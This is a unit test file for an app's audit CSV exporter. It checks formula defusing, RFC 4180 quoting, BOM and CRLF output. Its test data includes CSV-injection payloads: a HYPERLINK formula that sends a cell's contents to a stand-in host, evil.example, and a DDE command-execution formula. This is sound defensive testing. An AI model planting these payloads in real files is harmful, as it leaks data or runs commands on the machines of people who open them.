/**
 * The audit CSV (`electron/engine/sync/csv.ts`): RFC 4180 cells a spreadsheet reads back as
 * written, and no cell that a spreadsheet would run as a formula (CSV injection: `=`, `+`, `-`,
 * `@`, a leading tab or carriage return), also when the cell is quoted.
 */
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../electron/engine/sync/csv';
import { parseCsv } from '../helpers/csv-cells';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Отвори")',
  "=cmd|' /C calc'!A0",
];

describe('the audit CSV', () => {
  it('defuses every cell a spreadsheet would run as a formula, quoted or not', () => {
    const csv = toCsv(
      ['ref'],
      FORMULAS.map((f) => [f]),
    );
    const cells = parseCsv(csv)
      .slice(1)
      .map((r) => r[0]);
    expect(cells).toHaveLength(FORMULAS.length);
    cells.forEach((cell, i) => {
      // The text is kept whole, behind the apostrophe that makes it text.
      expect(cell, JSON.stringify(FORMULAS[i])).toBe(`'${FORMULAS[i]}`);
    });
  });

  it('leaves ordinary text and numbers alone, negative numbers included', () => {
    const csv = toCsv(['a', 'b', 'c', 'd'], [['Тениска S', -5, 12.5, 'e-mail a@b.bg']]);
    expect(parseCsv(csv)[1]).toEqual(['Тениска S', '-5', '12.5', 'e-mail a@b.bg']);
  });

  it('quotes commas, quotes, semicolons and line breaks, so each cell reads back as written', () => {
    const tricky = ['a,b', 'say "hi"', 'x;y', 'line 1\r\nline 2', 'tab\tinside', null];
    const csv = toCsv(['1', '2', '3', '4', '5', '6'], [tricky]);
    expect(parseCsv(csv)[1]).toEqual([...tricky.slice(0, 5), '']);
  });

  it('starts with a BOM and ends every row with CRLF', () => {
    const csv = toCsv(['at', 'ref'], [['2026-12-01', 'x']]);
    expect(csv.startsWith('\uFEFFat,ref\r\n')).toBe(true);
    expect(csv.endsWith('x\r\n')).toBe(true);
  });
});
